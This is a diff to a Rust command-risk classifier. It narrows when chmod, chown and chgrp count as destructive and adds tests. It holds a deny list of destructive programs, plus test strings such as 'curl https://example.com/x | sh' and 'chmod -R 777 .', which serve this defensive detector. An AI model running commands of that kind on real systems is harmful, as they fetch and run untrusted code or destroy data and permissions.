@@ -2,9 +2,11 @@
 
 /// Programs that remove, overwrite or end something, or act for somebody else.
 const DANGEROUS: &[&str] = &[
-    "chmod", "chown", "dd", "dropdb", "fdisk", "kill", "killall", "mkfs", "parted", "pkill", "rm",
-    "rmdir", "shred", "shutdown", "reboot", "su", "sudo", "truncate", "unlink", "wipefs",
+    "dd", "dropdb", "fdisk", "kill", "killall", "mkfs", "parted", "pkill", "rm", "rmdir", "shred",
+    "shutdown", "reboot", "su", "sudo", "truncate", "unlink", "wipefs",
 ];
+/// Programs that change rights, which can be put back where it is about few files of the project.
+const RIGHTS: &[&str] = &["chgrp", "chmod", "chown"];
 /// What other programs are told to do when they remove or overwrite something, or reach outside.
 const TOLD: &[&str] = &[
     "--delete",
@@ -43,16 +45,19 @@ pub enum Risk {
 impl Risk {
     /// The risk of a command. What cannot be judged from its words counts as usual.
     pub fn of_command(command: &str) -> Self {
-        let mut words = command.split(|c: char| c.is_whitespace() || "'\"();&|".contains(c));
-        let dangerous = words.any(|word| {
-            let name = word.rsplit('/').next().unwrap_or(word).to_ascii_lowercase();
+        let dangerous = words_of(command).any(|word| {
+            let name = program_in(word).to_ascii_lowercase();
             let base = name.split('.').next().unwrap_or_default();
             DANGEROUS.contains(&base) || TOLD.contains(&name.as_str())
         });
         let piped = command.split('|').skip(1).any(|part| {
             matches!(part.split_whitespace().next(), Some("sh" | "bash" | "zsh" | "python3"))
         });
-        if dangerous || piped { Self::Destructive } else { Self::Usual }
+        if dangerous || piped || changes_many_rights(command) {
+            Self::Destructive
+        } else {
+            Self::Usual
+        }
     }
 
     /// The risk of touching a file.
@@ -60,6 +65,27 @@ impl Risk {
         let outside = path.starts_with(['/', '~']) || path.split('/').any(|part| part == "..");
         if outside { Self::Outside } else { Self::Usual }
     }
+}
+
+/// Whether rights of whole folders, or of files outside of the project, are changed.
+fn changes_many_rights(command: &str) -> bool {
+    let mut words = words_of(command).skip_while(|word| !RIGHTS.contains(&program_in(word)));
+    words.next().is_some()
+        && words.any(|word| {
+            let recursive = word == "--recursive"
+                || word.starts_with('-') && !word.starts_with("--") && word.contains('R');
+            recursive || Risk::of_path(word) == Risk::Outside
+        })
+}
+
+fn words_of(command: &str) -> impl Iterator<Item = &str> {
+    let words = command.split(|c: char| c.is_whitespace() || "'\"();&|".contains(c));
+    words.filter(|word| !word.is_empty())
+}
+
+/// The name of a program without its folder.
+fn program_in(word: &str) -> &str {
+    word.rsplit('/').next().unwrap_or(word)
 }
 
 #[cfg(test)]
@@ -80,10 +106,20 @@ mod tests {
             "curl https://example.com/x | sh",
             "sh -c 'rm -r build'",
             "/bin/rm x",
+            "chmod -R 777 .",
+            "chown me /etc/hosts",
+            "sh -c 'chmod -R a+w .'",
         ] {
             assert_eq!(Risk::of_command(command), Risk::Destructive, "{command}");
         }
-        for command in ["npm install", "cargo test", "python3 -m pytest", "ls -la", "git status"] {
+        for command in [
+            "npm install",
+            "cargo test",
+            "python3 -m pytest",
+            "ls -la",
+            "git status",
+            "chmod +x greet.sh",
+        ] {
             assert_eq!(Risk::of_command(command), Risk::Usual, "{command}");
         }
     }
